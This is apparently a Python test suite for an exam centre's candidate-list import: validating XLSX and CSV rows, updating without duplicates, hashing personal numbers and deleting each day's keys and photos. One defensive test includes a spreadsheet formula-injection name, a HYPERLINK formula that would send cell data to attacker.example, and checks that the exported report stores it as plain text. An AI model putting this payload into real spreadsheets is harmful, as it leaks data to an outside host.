"""The exam council's candidate list (issue 27, part 1): an XLSX of 350 rows with three wrong ones is refused whole,
each problem by row and field in the reader's language; corrected, it imports; again, it updates and never
duplicates; the personal number is kept only as its keyed hash, the chip's key for the day only until it ends."""

from __future__ import annotations

import base64
import io
from datetime import date, datetime, timezone

import cv2
import httpx
import numpy as np
import pytest
from openpyxl import load_workbook

from exam_lists import HEADINGS, candidate_rows, excel_csv, xlsx
from gateway.errors import RowsInvalid
from gateway.i18n import catalogue
from gateway.services.devices.registry import add_site
from gateway.services.exams.candidates import forget_day_keys, import_candidates, parse_candidates
from gateway.services.exams.day import day_rows, report_lines, workbook
from gateway.services.security.secrets import GatewaySecrets
from gateway.storage import Store
from stack import Stack, sql

DAY = date(2027, 3, 15)


def with_three_wrong(rows: list[list]) -> list[list]:
    rows = [list(r) for r in rows]
    rows[40][2] = "00109000004"  # 11 digits: the sheet's row 42
    rows[180][3] = "31/02/1990"  # no such day: row 182
    rows[299][5] = "lý thuyết, bơi"  # not an exam part: row 301
    return rows


def test_a_350_row_list_with_three_wrong_rows_is_refused_naming_each_by_row_and_field():
    with pytest.raises(RowsInvalid) as refused:
        parse_candidates(xlsx(with_three_wrong(candidate_rows(350, DAY))), "danh-sach.xlsx")
    assert [(p.row, p.field, p.message.format(**p.params)) for p in refused.value.problems] == [
        (42, "personal number", "'00109000004' is not a 12-digit personal number"),
        (182, "birth date", "'31/02/1990' is not a date (dd/mm/yyyy)"),
        (301, "exam parts", "'lý thuyết, bơi' is not a list of exam parts (theory, simulation, track, road)")]


def test_a_list_without_a_column_or_with_a_candidate_twice_says_so():
    rows = candidate_rows(5, DAY)
    with pytest.raises(RowsInvalid) as refused:
        parse_candidates(xlsx([r[:8] for r in rows], headings=["Số báo danh", "Họ và tên", "Số định danh cá nhân",
                                                                 "Ngày sinh", "Hạng", "Nội dung thi", "Ngày thi",
                                                                 "Ca thi"]), "a.xlsx")
    assert [(p.row, p.field, p.message) for p in refused.value.problems] == [(1, "room", "this column is missing")]
    twice = rows + [rows[1][:1] + rows[3][1:]]  # candidate 0002 again, with another person's details
    with pytest.raises(RowsInvalid) as refused:
        parse_candidates(xlsx(twice), "a.xlsx")
    assert [(p.row, p.field, p.message.format(**p.params)) for p in refused.value.problems] == [
        (7, "candidate number", "candidate 0002 is also on row 3"), ]


def test_the_same_list_saved_by_excel_as_csv_reads_the_same():
    rows = candidate_rows(20, DAY)
    from_xlsx, from_csv = parse_candidates(xlsx(rows), "a.xlsx"), parse_candidates(excel_csv(rows), "a.csv")
    assert from_xlsx == from_csv
    first = from_csv[0]
    assert (first.number, first.name, first.personal_number, first.birth, first.licence_class, first.parts,
            first.exam_date, first.slot, first.room) == (
        "0001", "Trần Thị Bình", "001090000001", date(1981, 2, 2), "C1", ("theory", "simulation"), DAY, "07:30",
        "Phòng 2")


def picture(width: int, height: int, suffix: str = ".jpg") -> bytes:
    """A picture as a list carries one (whether it shows a face is the door's matter, not the import's)."""
    gradient = np.linspace(0, 255, width * height * 3).reshape(height, width, 3).astype(np.uint8)
    return cv2.imencode(suffix, gradient)[1].tobytes()


def test_a_lists_photos_are_the_pictures_on_its_rows_each_checked():
    face, thumbnail = picture(200, 250), picture(30, 40, ".png")  # a photo; a stamp
    rows = candidate_rows(4, DAY)
    with pytest.raises(RowsInvalid) as refused:
        parse_candidates(xlsx(rows, photos={0: face, 2: thumbnail}), "a.xlsx")
    assert [(p.row, p.field, p.message.format(**p.params)) for p in refused.value.problems] == [
        (4, "photo", "the photo is not a JPEG or PNG picture of at least 100 pixels a side and at most 2 MB")]
    listed = parse_candidates(xlsx(rows, photos={0: face, 3: face}), "a.xlsx")
    assert [r.photo == face if r.photo else None for r in listed] == [True, None, None, True]
    # A CSV cannot carry a picture: a file name in its photo column is refused, not ignored.
    named = excel_csv([r + [""] for r in rows[:1]] + [r + ["anh/0002.jpg"] for r in rows[1:2]],
                      headings=HEADINGS + ["Ảnh thẻ"])
    with pytest.raises(RowsInvalid) as refused:
        parse_candidates(named, "a.csv")
    assert [(p.row, p.field) for p in refused.value.problems] == [(3, "photo")]
    assert "picture placed in the row's cell of an XLSX" in refused.value.problems[0].message


@pytest.fixture
def store(database, tmp_path):
    store = Store.open(database)
    add_site(store, "dtc-tien-giang", "Trung tâm sát hạch Tiền Giang")
    yield store
    store.db.close()


def test_a_corrected_list_imports_and_again_updates_without_duplicates(store, tmp_path):
    secrets = GatewaySecrets(tmp_path / "secrets")
    rows = parse_candidates(xlsx(candidate_rows(350, DAY)), "danh-sach.xlsx")
    first = import_candidates(store, secrets, "dtc-tien-giang", rows, "user:supervisor-1")
    assert (first.rows, first.added, first.updated, first.unchanged, first.dates) == (350, 350, 0, 0, ("2027-03-15",))
    moved = candidate_rows(350, DAY)
    moved[9][8] = "Phòng 4"  # one candidate moved to another room
    again = import_candidates(store, secrets, "dtc-tien-giang", parse_candidates(xlsx(moved), "v2.xlsx"),
                              "user:supervisor-1")
    assert (again.added, again.updated, again.unchanged) == (0, 1, 349)
    day = store.candidates.day("dtc-tien-giang", "2027-03-15")
    assert len(day) == 350 and {c.room for c in day if c.number == "0010"} == {"Phòng 4"}
    kept = next(c for c in day if c.number == "0001")
    assert kept.personal_hash == secrets.id_card_hash("001090000001") and "001090000001" not in repr(kept)
    assert (kept.document, kept.birth) == ("090000001", "1981-02-02")  # the chip's key, for the day
    assert sql_rows(store, "SELECT count(*) FROM exam_candidates") == [(350,)]
    imported = sql_rows(store, "SELECT actor, target, detail FROM audit WHERE action = 'exam.candidates_imported' "
                               "ORDER BY seq")
    assert [(actor, target) for actor, target, _ in imported] == [("user:supervisor-1", "dtc-tien-giang")] * 2
    assert "Bình" not in imported[0][2] and "0010" not in imported[0][2]  # counts, never a name or a number


def test_the_days_report_keeps_what_the_list_wrote_as_text_never_a_formula(store, tmp_path):
    rows = candidate_rows(2, DAY)
    rows[0][1] = '=HYPERLINK("http://attacker.example/?"&A3,"Nguyễn Văn An")'  # a name as a spreadsheet would run it
    rows[1][1] = "Trần\x07 Thị Bình"  # a control character XLSX cannot hold
    import_candidates(store, GatewaySecrets(tmp_path / "secrets"), "dtc-tien-giang",
                      parse_candidates(excel_csv(rows), "a.csv"), "user:supervisor-1")
    words = catalogue("vi")
    lines = report_lines(day_rows(store, "dtc-tien-giang", "2027-03-15"), words, lambda value: value or "")
    sheet = load_workbook(io.BytesIO(workbook(lines, words, "=1+1"))).active
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("=1+1", "s")
    assert (sheet["B3"].value, sheet["B3"].data_type) == (rows[0][1], "s")
    assert sheet["B4"].value == "Trần\ufffd Thị Bình"


def sql_rows(store, query):
    with store.db.read() as conn:
        return [tuple(r) for r in conn.exec_driver_sql(query).fetchall()]


def test_the_chip_keys_and_photos_of_a_day_are_forgotten_once_it_has_ended(store, tmp_path):
    secrets = GatewaySecrets(tmp_path / "secrets")
    face = picture(200, 250)
    rows = candidate_rows(3, DAY)
    first = import_candidates(store, secrets, "dtc-tien-giang", parse_candidates(xlsx(rows, photos={1: face}),
                                                                                 "a.xlsx"), "user:supervisor-1")
    listed = {c.number: c.id for c in store.candidates.day("dtc-tien-giang", "2027-03-15")}
    assert first.added == 3 and store.candidates.photo(listed["0002"]) == face
    # The council sends the photo of 0003 too: one row updated, 0002's photo kept.
    again = import_candidates(store, secrets, "dtc-tien-giang",
                              parse_candidates(xlsx(rows, photos={1: face, 2: face}), "a.xlsx"), "user:supervisor-1")
    assert (again.updated, again.unchanged) == (1, 2)
    assert sql_rows(store, "SELECT count(*) FROM exam_candidate_photos") == [(2,)]
    # 23:30 on the day, Hanoi's clock (16:30 UTC): still the day.
    assert forget_day_keys(store, "Asia/Ho_Chi_Minh", datetime(2027, 3, 15, 16, 30, tzinfo=timezone.utc)) == 0
    # 00:30 the next morning in Hanoi, still the 15th in UTC: the day has ended there.
    assert forget_day_keys(store, "Asia/Ho_Chi_Minh", datetime(2027, 3, 15, 17, 30, tzinfo=timezone.utc)) == 3
    assert {(c.document, c.birth) for c in store.candidates.day("dtc-tien-giang", "2027-03-15")} == {(None, None)}
    assert store.candidates.photo(listed["0002"]) is None
    assert sql_rows(store, "SELECT count(*) FROM exam_candidate_photos") == [(0,)]


@pytest.fixture(scope="module")
def stack(tmp_path_factory, new_db):
    s = Stack.create(tmp_path_factory.mktemp("candidates"), new_db("candidates"))
    add_site(s.store, "dtc-tien-giang", "Trung tâm sát hạch Tiền Giang")
    yield s
    s.close()


def test_the_api_refuses_a_wrong_list_in_the_readers_language_and_lists_the_day_without_personal_numbers(stack):
    url = f"{stack.gateway.base_url}/api/exam/candidates"
    headers = {"Authorization": f"Bearer {stack.token('supervisor')}", "Accept-Language": "vi"}
    wrong = {"site": "dtc-tien-giang", "filename": "danh-sach.xlsx",
             "content": base64.b64encode(xlsx(with_three_wrong(candidate_rows(350, DAY)))).decode()}
    answer = httpx.post(url + "/import", json=wrong, headers=headers, timeout=60)
    assert answer.status_code == 422, answer.text
    assert [(p["row"], p["field"]) for p in answer.json()["problems"]] == [
        (42, "số định danh cá nhân"), (182, "ngày sinh"), (301, "nội dung thi")]
    assert answer.json()["problems"][1]["message"] == "'31/02/1990' không phải là ngày (dd/mm/yyyy)"
    assert sql(stack, "SELECT count(*) FROM exam_candidates") == [(0,)]  # nothing of a wrong list is written
    right = wrong | {"content": base64.b64encode(xlsx(candidate_rows(350, DAY))).decode()}
    answer = httpx.post(url + "/import", json=right, headers=headers, timeout=60)
    assert answer.status_code == 200 and answer.json()["added"] == 350, answer.text
    listed = httpx.get(url, params={"site": "dtc-tien-giang", "day": "2027-03-15"}, headers=headers).json()
    assert len(listed) == 350 and listed[0]["name"] == "Hoàng Thanh Hà"  # Phòng 1 first, then slot, then number
    assert "personal" not in str(listed[0]) and "0010900" not in str(listed)
    operator = {"Authorization": f"Bearer {stack.token('operator')}"}
    assert httpx.post(url + "/import", json=right, headers=operator).status_code == 403
    # With a photo on each row the list is megabytes, more than an ordinary request may carry: it imports.
    noise = np.random.default_rng(27).integers(0, 256, (400, 300, 3), dtype=np.uint8)
    photos = {i: cv2.imencode(".jpg", np.roll(noise, i, axis=0))[1].tobytes() for i in range(12)}
    book = xlsx(candidate_rows(12, DAY), photos=photos)
    assert len(book) > 1024 * 1024
    with_photos = wrong | {"content": base64.b64encode(book).decode()}
    answer = httpx.post(url + "/import", json=with_photos, headers=headers, timeout=60)
    assert answer.status_code == 200 and answer.json()["updated"] == 12, answer.text
    assert sql(stack, "SELECT count(*) FROM exam_candidate_photos") == [(12,)]
